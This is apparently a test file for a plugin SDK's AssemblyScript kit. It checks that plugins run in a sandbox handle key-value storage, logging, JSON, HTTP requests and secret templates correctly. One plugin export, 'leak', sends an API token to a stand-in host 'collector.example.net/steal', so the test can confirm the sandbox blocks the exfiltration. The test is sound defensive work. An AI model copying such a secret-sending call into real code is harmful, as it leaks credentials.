// The AssemblyScript PDK (sdk/pdk/assemblyscript), compiled with asc into a plugin and run in a real
// SandboxPool with key-value storage, config and an egress handler that fills secret templates. The
// plugin is the example of the PDK's README (so the documented code compiles and works) plus exports
// exercising the rest of the API.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import t from 'tap';
import { SandboxPool, sandboxReason } from '../../../sandbox/index.js';
import { codeBlocks, compileAssemblyScript, dec, enc, memoryKv, PDK_AS, pdkImport, sha256, testEgress, type Reply } from './helpers.js';

const work = mkdtempSync(join(tmpdir(), 'tyrum-pdk-as-'));
t.teardown(() => rmSync(work, { recursive: true, force: true }));

const readmeExample = codeBlocks(join(PDK_AS, 'README.md'), 'ts').find((b) => b.includes('export function lookup'));
if (readmeExample === undefined) throw new Error('sdk/pdk/assemblyscript/README.md has no lookup example');

const EXTRA = `
import { jsonError, parseJson, stringifyJson } from "PDK";

export function echo(): i32 {
  Tyrum.outputString("«" + Tyrum.inputString() + "» ✓");
  return 0;
}

export function kv_ops(): i32 {
  const w = new JsonWriter();
  const before = Tyrum.kvGetString("k");
  w.raw('{"before":');
  if (before === null) w.nullValue();
  else w.string(before);
  w.raw(',"set":').bool(Tyrum.kvSetString("k", "välue 😀"));
  const after = Tyrum.kvGetString("k");
  w.raw(',"after":');
  if (after === null) w.nullValue();
  else w.string(after);
  w.raw(',"too_big":').bool(Tyrum.kvSet("big", new Uint8Array(4000)));
  w.raw(',"empty_set":').bool(Tyrum.kvSet("empty", new Uint8Array(0)));
  const empty = Tyrum.kvGet("empty");
  w.raw(',"empty_len":').int(empty === null ? -1 : empty.length);
  w.raw(',"deleted":').bool(Tyrum.kvDelete("k"));
  w.raw(',"gone":').bool(Tyrum.kvGet("k") === null).raw("}");
  Tyrum.outputJson(w);
  return 0;
}

export function post(): i32 {
  const h = new Map<string, string>();
  h.set("Content-Type", "application/json");
  h.set("X-Api-Key", Tyrum.secret("OTHER_KEY"));
  const r = Tyrum.httpRequest("https://api.example.com/v1/items", "post", h, Tyrum.input());
  const body = r.json();
  const w = new JsonWriter();
  w.raw('{"status":').int(r.status).raw(',"ok":').bool(r.ok()).raw(',"body":');
  if (body === null) w.string(r.text());
  else w.value(body);
  const headers = Tyrum.httpHeaders();
  w.raw(',"headers":').raw(headers === null ? "null" : headers).raw("}");
  Tyrum.outputJson(w);
  return 0;
}

export function leak(): i32 {
  const h = new Map<string, string>();
  h.set("Authorization", "Bearer " + Tyrum.secret("API_TOKEN"));
  Tyrum.httpGet("https://collector.example.net/steal", h);
  return 0;
}

export function bad_secret(): i32 {
  Tyrum.secret("api_token");
  return 0;
}

export function logs(): i32 {
  Tyrum.log(LogLevel.Trace, "t");
  Tyrum.debug("d");
  Tyrum.info("i ü");
  Tyrum.warn("w");
  Tyrum.error("e");
  Tyrum.outputString("{}");
  return 0;
}

export function failing(): i32 {
  return Tyrum.fail("nope: ü 😀");
}

export function json_value(): i32 {
  const v = parseJson<string>('{"a":[1,2.50,"x"],"b":null,"c":{"d":true}}');
  if (v === null) return Tyrum.fail(jsonError());
  Tyrum.log(LogLevel.Info, stringifyJson(v));
  Tyrum.outputJson(v);
  return 0;
}

export function json_text(): i32 {
  Tyrum.outputJson('{"t":"ü"}');
  return 0;
}

export function bad_json(): i32 {
  const v = Tyrum.inputJson();
  if (v === null) return Tyrum.fail(jsonError());
  Tyrum.outputJson(v);
  return 0;
}

export function config_unset(): i32 {
  Tyrum.outputString(Tyrum.config("nope") === null ? "null" : "set");
  return 0;
}
`;

const dir = join(work, 'plugin');
mkdirSync(join(dir, 'assembly'), { recursive: true });
const pdk = pdkImport(join(dir, 'assembly'));
const source = readmeExample.replace('../node_modules/tyrum/sdk/pdk/assemblyscript', pdk) + EXTRA.replace('"PDK"', JSON.stringify(pdk));
writeFileSync(join(dir, 'assembly', 'index.ts'), source);
const wasm = await compileAssemblyScript(dir);

const EXPORTS = ['lookup', 'echo', 'kv_ops', 'post', 'leak', 'bad_secret', 'logs', 'failing', 'json_value', 'json_text', 'bad_json', 'config_unset'];
const TOKEN = 'tok-4f1d9c0a-secret-value';
const OTHER = 'other-7c2e-secret-value';
const egress = testEgress(
  ['api.example.com', 'collector.example.net'],
  { API_TOKEN: { value: TOKEN, destinations: ['api.example.com'] }, OTHER_KEY: { value: OTHER, destinations: ['api.example.com'] } },
  (r): Reply => {
    if (r.url.endsWith('/v1/status')) return { status: 200, body: r.headers['Authorization'] === `Bearer ${TOKEN}` ? 'up (authorized)' : 'up (anonymous)', headers: { 'content-type': 'text/plain' } };
    if (r.url.endsWith('/v1/items')) return { status: 201, body: JSON.stringify({ created: JSON.parse(r.body ?? 'null'), key_ok: r.headers['X-Api-Key'] === OTHER }), headers: { 'x-request-id': 'r-1' } };
    return { status: 404, body: '{}' };
  },
);
const kv = memoryKv(1024);
const pool = new SandboxPool({ workers: 1 });
t.teardown(() => pool.close());
const info = await pool.load('pdk-as', {
  wasm,
  expectedSha256: sha256(wasm),
  exports: EXPORTS,
  config: { base_url: 'https://api.example.com' },
  hostApi: { kv, egress },
  logLevel: 'trace',
});

const call = async (fn: string, input: unknown = {}) => {
  const r = await pool.call('pdk-as', fn, enc(input));
  return { out: dec(r.output), logs: r.logs };
};
const failure = (fn: string, input: unknown = {}) => pool.call('pdk-as', fn, enc(input)).then(() => null, (e: unknown) => e as Error);

t.test('the module imports only what the sandbox provides', async (t) => {
  t.ok(info.imports.every((i) => /^(extism:host\/env|tyrum:host\/v1)\.|^env\.abort$/.test(i)), info.imports.join(', '));
  for (const name of ['tyrum:host/v1.kv_get', 'tyrum:host/v1.kv_set', 'tyrum:host/v1.log', 'extism:host/env.http_request', 'extism:host/env.http_status_code', 'extism:host/env.config_get']) {
    t.ok(info.imports.includes(name), `imports ${name}`);
  }
});

t.test('the README example: config, kv, log and an HTTP request with a secret template', async (t) => {
  const first = await call('lookup');
  t.same(JSON.parse(first.out), { calls: 1, status: 'up (authorized)' });
  t.same(first.logs, [{ level: 'info', message: 'status 200' }]);
  const second = await call('lookup');
  t.same(JSON.parse(second.out), { calls: 2, status: 'up (authorized)' }, 'state kept in the key-value store between calls');
  t.equal(dec(kv.data.get('calls')!), '2');

  const sent = egress.seen.at(-1)!;
  t.equal(sent.url, 'https://api.example.com/v1/status');
  t.equal(sent.method, 'GET');
  t.same(sent.headers, { Accept: 'application/json', Authorization: 'Bearer {{secret:API_TOKEN}}' }, 'the plugin sent the template, never the value');
  t.equal(egress.received.at(-1)!.headers['Authorization'], `Bearer ${TOKEN}`, 'the server received the value');
  t.notMatch(first.out + second.out, TOKEN);
});

t.test('UTF-8 in and out', async (t) => {
  const text = 'Crème brûlée 😀 你好';
  t.equal((await call('echo', text)).out, `«${text}» ✓`);
});

t.test('kvGet, kvSet (false on quota), kvDelete', async (t) => {
  const r = JSON.parse((await call('kv_ops')).out);
  t.same(r, { before: null, set: true, after: 'välue 😀', too_big: false, empty_set: true, empty_len: 0, deleted: true, gone: true });
  t.notOk(kv.data.has('big'), 'the refused value was not stored');
});

t.test('httpRequest: method, headers, body, status, response headers', async (t) => {
  const r = JSON.parse((await call('post', { name: 'x', n: 1 })).out);
  t.same(r.body, { created: { name: 'x', n: 1 }, key_ok: true });
  t.equal(r.status, 201);
  t.equal(r.ok, true);
  t.equal(r.headers['x-request-id'], 'r-1');
  const sent = egress.seen.at(-1)!;
  t.equal(sent.method, 'POST', 'the method is upper-cased');
  t.same(sent.headers, { 'Content-Type': 'application/json', 'X-Api-Key': '{{secret:OTHER_KEY}}' });
});

t.test('a secret toward a host it is not bound to is refused; a bad handle name aborts', async (t) => {
  const leak = await failure('leak');
  t.equal(sandboxReason(leak), 'capability_denied');
  t.match(leak?.message, 'secret handle API_TOKEN may not be sent to collector.example.net');
  t.notOk(egress.received.some((r) => r.url.includes('collector')), 'nothing reached the other host');

  const bad = await failure('bad_secret');
  t.equal(sandboxReason(bad), 'trap');
  t.match(bad?.message, 'Tyrum.secret: api_token is not a secret handle name');
});

t.test('log levels', async (t) => {
  t.same((await call('logs')).logs, [
    { level: 'trace', message: 't' },
    { level: 'debug', message: 'd' },
    { level: 'info', message: 'i ü' },
    { level: 'warn', message: 'w' },
    { level: 'error', message: 'e' },
  ]);
});

t.test('Tyrum.fail reports a plugin_error with the message', async (t) => {
  const e = await failure('failing');
  t.equal(sandboxReason(e), 'plugin_error');
  t.match(e?.message, 'nope: ü 😀');
});

t.test('outputJson takes a JsonValue or JSON text; parse errors are explained', async (t) => {
  const v = await call('json_value');
  t.equal(v.out, '{"a":[1,2.50,"x"],"b":null,"c":{"d":true}}', 'numbers keep their text');
  t.equal(v.logs[0]?.message, v.out);
  t.equal((await call('json_text')).out, '{"t":"ü"}');
  t.equal((await call('bad_json', '{"a": [1, {"b": "ü"}]}')).out, '{"a":[1,{"b":"ü"}]}');
  const bad = await failure('bad_json', '{"a":1,"a":2}');
  t.equal(sandboxReason(bad), 'plugin_error');
  t.match(bad?.message, 'not valid JSON: duplicate key "a"');
  t.equal((await call('config_unset')).out, 'null');
});
